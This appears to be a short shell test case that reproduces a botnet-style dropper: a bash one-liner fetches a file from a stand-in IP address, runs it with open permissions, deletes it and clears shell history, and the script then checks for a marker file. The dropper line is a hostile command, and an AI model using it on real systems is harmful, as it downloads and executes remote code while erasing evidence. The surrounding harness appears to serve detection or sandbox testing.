#!/bin/sh
. /opt/case/case.sh

bash -c 'id; uname -a; cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; curl -O -s http://203.0.113.10/programs/marker; chmod 777 marker; ./marker & sleep 1; rm -rf marker; history -c'
test -e /tmp/reached
took_place
